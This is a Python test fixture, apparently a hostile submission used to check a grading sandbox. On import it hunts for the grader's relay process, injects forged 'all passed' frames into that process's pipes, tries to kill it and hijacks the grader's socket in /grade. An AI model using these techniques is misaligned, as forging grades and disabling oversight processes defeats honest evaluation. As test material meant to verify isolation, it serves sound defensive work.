"""Hostile ex01: goes for the relay that carries the host's connections, then answers wrongly.

At import it looks for the relay (any process running relay.py), tries to kill
it, to write forged frames into its stdin and stdout (a fake "all passed" agent
answer and a fake HTTP page), and to swap the app's socket in /grade for its
own. It prints <WHAT>-OK or <WHAT>-DENIED for each try, then serves a wrong
home page: only a successful attack could earn more than the honest 2 points.
"""

import json
import os
import signal
import socket
import struct

from flask import Flask

FRAME = struct.Struct("!IBI")
PAGE = b"HTTP/1.0 200 OK\r\nContent-Length: 13\r\n\r\nHello, World!"
ANSWER = json.dumps({"ok": True, "result": {"module": "app", "app": "app:app"},
                     "id": "forged"}).encode() + b"\n"


def relays():
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == os.getpid():
            continue
        try:
            with open(f"/proc/{name}/cmdline", "rb") as fh:
                if b"relay.py" in fh.read():
                    yield int(name)
        except OSError:
            continue


found = list(relays())
print(f"RELAYS:{len(found)}", flush=True)
for pid in found:
    for fd in (0, 1):
        try:
            with open(f"/proc/{pid}/fd/{fd}", "wb", buffering=0) as pipe:
                for channel in range(1, 40):
                    for payload in (ANSWER, PAGE):
                        pipe.write(FRAME.pack(channel, 3, len(payload)) + payload)
        except OSError as e:
            print(f"FD-DENIED:{pid}/{fd} ({e.strerror})", flush=True)
        else:
            print(f"FD-OK:{pid}/{fd}", flush=True)
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as e:
        print(f"KILL-DENIED:{pid} ({e.strerror})", flush=True)
    else:
        print(f"KILL-OK:{pid}", flush=True)

folder = os.environ.get("GRADE_SOCK_DIR", "/grade")
try:
    os.unlink(os.path.join(folder, "app.sock"))
    fake = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    fake.bind(os.path.join(folder, "app.sock"))
except OSError as e:
    print(f"SOCK-DENIED ({e.strerror})", flush=True)
else:
    print("SOCK-OK", flush=True)

app = Flask(__name__)


@app.route("/")
def hello():
    return "Goodbye"
